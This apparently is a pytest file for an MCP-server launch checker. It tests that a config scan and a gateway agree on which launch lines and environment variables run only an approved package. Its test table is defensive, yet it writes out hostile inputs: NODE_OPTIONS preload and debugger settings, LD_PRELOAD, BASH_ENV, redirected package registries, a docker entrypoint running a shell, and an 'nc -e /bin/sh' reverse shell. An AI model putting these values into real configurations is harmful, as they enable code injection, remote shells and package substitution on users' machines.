"""Attack: a launch the scan calls approved and the gateway refuses, or the other way round.

Until 2026-12-05 two judges said whether a launch line and its environment run only the
approved package: the launch's parse with its deny-lists (``mcpward scan --registry``, the
fleet's ``observe``) and the gateway's registry check with its allow-lists. Each knew settings the
other did not: an entry's ``NODE_OPTIONS=--inspect`` (a debugger any local process may attach to
and run code in), ``NODE_PATH``, ``npm_config_script_shell``, ``npm_config_cafile``,
``UV_PYTHON``, ``SSL_CERT_FILE``, ``DOCKER_HOST``, ``npx --cafile``, ``uvx --constraints``,
``env --chdir``, ``docker run --entrypoint`` were approved by the scan and refused by the gateway
(an audit that says "approved" of a launch the gateway will not start, and a fleet view that
says nothing of a repository's entry that loads a debugger into the server); an entry's
``npm_config_@acme:registry`` was refused by the scan and started by the gateway for a package
whose dependencies come from ``@acme``.

The same table of launch lines and environments now goes through both, and they agree on each:
both ask :mod:`mcpward.launch_judge`. A variable whose value decides (``NODE_OPTIONS``,
``PATH``) is judged by the scan where it reads the entry, and only the verdict is kept (the scan
keeps the names of an entry's variables, never their values).
"""

from __future__ import annotations

import json
from datetime import date
from pathlib import Path

import pytest
from enforce_kit import approved_entry

from mcpward.gateway import Refusal, Session
from mcpward.gateway._interceptors.registry import Registry as RegistryCheck
from mcpward.launch import resolve_launch
from mcpward.launch_judge import values_harmless
from mcpward.model import Scope, ServerSpec
from mcpward.registry import ApprovalIndex, Entry, observe

IMAGE = "ghcr.io/acme/ok@sha256:" + "a" * 64


def _index() -> ApprovalIndex:
    entries = [
        Entry.model_validate(approved_entry(1, "io.github.acme/ok", "@acme/ok")),
        Entry.model_validate(approved_entry(2, "io.github.acme/ok-py", "acme-ok", ecosystem="pypi")),
        Entry.model_validate(approved_entry(3, "io.github.acme/ok-mcp", "ok-mcp")),
        Entry.model_validate(
            approved_entry(4, "io.github.acme/ok-image", "ghcr.io/acme/ok")
            | {"identity": {"kind": "oci", "name": "ghcr.io/acme/ok", "digest": IMAGE.partition("@")[2]}}
        ),
    ]
    return ApprovalIndex(entries, date(2026, 12, 5))


NPX = "npx -y @acme/ok@1.0.0"
UVX = "uvx acme-ok==1.0.0"
PIPX = "pipx run acme-ok==1.0.0"

#: (launch line, the entry's own env). The line is split on spaces.
_TABLE: list[tuple[str, dict[str, str]]] = [
    (NPX, {}),
    (UVX, {}),
    (PIPX, {}),
    ("npx -y ok-mcp@1.0.0", {}),
    (NPX, {"GITHUB_TOKEN": "x", "LOG_LEVEL": "debug", "NODE_ENV": "production"}),
    (NPX, {"NODE_OPTIONS": "--inspect"}),
    (NPX, {"NODE_OPTIONS": "--inspect-brk=0.0.0.0:9229"}),
    (NPX, {"NODE_OPTIONS": "--experimental-loader=./x.mjs"}),
    (NPX, {"NODE_OPTIONS": "--require ./evil.js"}),
    (NPX, {"NODE_PATH": "./lib"}),
    (NPX, {"NODE_EXTRA_CA_CERTS": "./ca.pem"}),
    (NPX, {"NODE_TLS_REJECT_UNAUTHORIZED": "0"}),
    (NPX, {"npm_config_registry": "http://127.0.0.1:9/"}),
    (NPX, {"npm_config_script_shell": "./x"}),
    (NPX, {"npm_config_cafile": "./ca.pem"}),
    (NPX, {"npm_config_offline": "true"}),
    (NPX, {"npm_config_yes": "true"}),
    (NPX, {"npm_config_@acme:registry": "http://127.0.0.1:9/"}),
    ("npx -y ok-mcp@1.0.0", {"npm_config_@acme:registry": "http://127.0.0.1:9/"}),
    (NPX, {"npm_config_//npm.acme.example/:_authToken": "t"}),
    (NPX, {"BUN_INSTALL": "./bun"}),
    (NPX, {"LD_PRELOAD": "./x.so"}),
    (NPX, {"BASH_ENV": "./x.sh"}),
    (NPX, {"GIT_SSH_COMMAND": "./x.sh"}),
    (UVX, {"UV_PYTHON": "./venv/bin/python"}),
    (UVX, {"UV_TOOL_DIR": "./tools"}),
    (UVX, {"UV_NO_PROGRESS": "1"}),
    (UVX, {"UV_INDEX_URL": "http://127.0.0.1:9/simple"}),
    (UVX, {"PYTHONPATH": "./lib"}),
    (UVX, {"PYTHONUSERBASE": "./u"}),
    (UVX, {"PYTHONWARNINGS": "ignore::evil.Warning"}),
    (UVX, {"PYTHONUNBUFFERED": "1"}),
    (UVX, {"SSL_CERT_FILE": "./ca.pem"}),
    (UVX, {"REQUESTS_CA_BUNDLE": "./ca.pem"}),
    (PIPX, {"PIP_INDEX_URL": "http://127.0.0.1:9/simple"}),
    (PIPX, {"PIP_TRUSTED_HOST": "127.0.0.1"}),
    (PIPX, {"PIPX_HOME": "./pipx"}),
    (f"docker run -i --rm {IMAGE}", {}),
    (f"docker run -i --rm {IMAGE}", {"DOCKER_HOST": "tcp://127.0.0.1:9"}),
    (f"docker run -i --rm --entrypoint sh {IMAGE} -c id", {}),
    ("npx -y --cafile=./ca.pem @acme/ok@1.0.0", {}),
    ("npx -y --script-shell=./x @acme/ok@1.0.0", {}),
    ("npx -y --https-proxy=http://127.0.0.1:9 @acme/ok@1.0.0", {}),
    ("npx -y --node-options=--inspect @acme/ok@1.0.0", {}),
    ("npx -y --node-options=--max-old-space-size=4096 @acme/ok@1.0.0", {}),
    ("npx -y --loglevel=error @acme/ok@1.0.0", {}),
    ("npm exec @acme/ok@1.0.0 --registry=http://127.0.0.1:9/", {}),
    ("uvx --constraints ./c.txt acme-ok==1.0.0", {}),
    ("uvx --allow-insecure-host 127.0.0.1 acme-ok==1.0.0", {}),
    ("uvx --python 3.12 -q acme-ok==1.0.0", {}),
    ("uvx --refresh acme-ok==1.0.0", {}),
    ("uvx --from acme-ok==1.0.0 acme-ok --port 3", {}),
    ("pipx run --spec acme-ok==1.0.0 acme-ok", {}),
    ("pipx run --system-site-packages acme-ok==1.0.0", {}),
    ("env --chdir=../other npx -y @acme/ok@1.0.0", {}),
    ("env NODE_OPTIONS=--inspect npx -y @acme/ok@1.0.0", {}),
    ("env NODE_OPTIONS=--max-old-space-size=4096 npx -y @acme/ok@1.0.0", {}),
    ("env NODE_PATH=./lib npx -y @acme/ok@1.0.0", {}),
    ("env npm_config_script_shell=./x npx -y @acme/ok@1.0.0", {}),
    ("env UV_PYTHON=./venv/bin/python uvx acme-ok==1.0.0", {}),
    ("env SSL_CERT_FILE=./ca.pem uvx acme-ok==1.0.0", {}),
    ("env LOG_LEVEL=debug uvx acme-ok==1.0.0", {}),
    ("env npm_config_@acme:registry=http://127.0.0.1:9/ npx -y ok-mcp@1.0.0", {}),
    ("/usr/local/bin/npx -y @acme/ok@1.0.0", {}),
    ("/tmp/x/npx -y @acme/ok@1.0.0", {}),
    ("npx -y -p @acme/ok@1.0.0 nc -e /bin/sh 127.0.0.1 9", {}),
]


def _scan_refuses(command: str, env: dict[str, str]) -> bool:
    words = tuple(command.split())
    launch = resolve_launch(words[0], words[1:])
    spec = ServerSpec(
        id="x", host="claude-desktop", name="ok", config_path="/home/a/.config/c.json",
        scope=Scope.USER, command=words[0], args=words[1:], env_names=tuple(sorted(env)),
        env_values_harmless=values_harmless(env), package=launch.package,
    )  # fmt: skip
    return _index().judge(observe(spec)).status != "approved"


def _gateway_refuses(command: str, env: dict[str, str], folder: Path) -> bool:
    words = tuple(command.split())
    check = RegistryCheck(_index, command=words, server_env=env, directory=folder)
    try:
        check.launch(Session(server="ok", target=words[0]))
    except Refusal:
        return True
    return False


def test_the_scan_and_the_gateway_judge_every_launch_alike(tmp_path: Path) -> None:
    # A folder of no project's: the gateway's own reading of the project's files is its alone.
    differ = []
    for command, env in _TABLE:
        scan, gateway = _scan_refuses(command, env), _gateway_refuses(command, env, tmp_path)
        if scan == gateway:
            continue
        differ.append(f"{command} {env}: scan {'refuses' if scan else 'approves'}, gateway "
                      f"{'refuses' if gateway else 'starts'}")  # fmt: skip
    assert differ == [], "\n".join(differ)


@pytest.mark.parametrize(
    ("command", "env"),
    [
        (NPX, {"NODE_OPTIONS": "--max-old-space-size=4096"}),
        (NPX, {"PATH": "/usr/local/bin:/usr/bin:/bin"}),
        ("npx -y @modelcontextprotocol/server-filesystem /srv", {}),
        ("uvx mcp-server-fetch", {}),
        ("docker run -i --rm mcp/x", {}),
        ("node /srv/server.js", {}),
    ],
)
def test_a_clean_launch_is_no_more_than_its_package(
    command: str, env: dict[str, str], tmp_path: Path
) -> None:
    """Clean launches of the README's: the gateway starts what it approves; the scan says the
    same when it can read what decides."""
    words = tuple(command.split())
    launch = resolve_launch(words[0], words[1:])
    assert launch.beyond_package == ()
    if command == NPX:
        assert not _gateway_refuses(command, env, tmp_path)


@pytest.mark.parametrize(
    ("env", "approved"),
    [
        ({"PATH": "/usr/local/bin:/usr/bin:/bin"}, True),  # common in desktop clients' entries
        ({"NODE_OPTIONS": "--max-old-space-size=4096"}, True),
        ({"PATH": "/tmp/x:/usr/bin"}, False),
        ({"PATH": ":/usr/bin"}, False),  # an empty folder is the one the server starts in
        ({"NODE_OPTIONS": "--inspect"}, False),
    ],
)
def test_the_scan_judges_a_value_that_decides_where_it_reads_it(
    env: dict[str, str], approved: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Through the scan itself: the value is judged when the entry is read and not kept; a
    harmless PATH (desktop clients need one to find npx) left every such entry unapproved."""
    from mcpward.scan import ScanOptions, TargetOS, run_scan

    home = tmp_path / "h"
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    config = tmp_path / "xdg" / "Claude" / "claude_desktop_config.json"
    config.parent.mkdir(parents=True)
    home.mkdir()
    entry = {"command": "npx", "args": ["-y", "@acme/ok@1.0.0"], "env": env}
    config.write_text(json.dumps({"mcpServers": {"ok": entry}}))
    report = run_scan(ScanOptions(target_os=TargetOS.LINUX, root=tmp_path / "noroot"))
    (spec,) = report.servers
    assert set(spec.env_names) == set(env)
    assert not any(value in str(spec) for value in env.values())  # names only are kept
    assert (_index().judge(observe(spec)).status == "approved") is approved
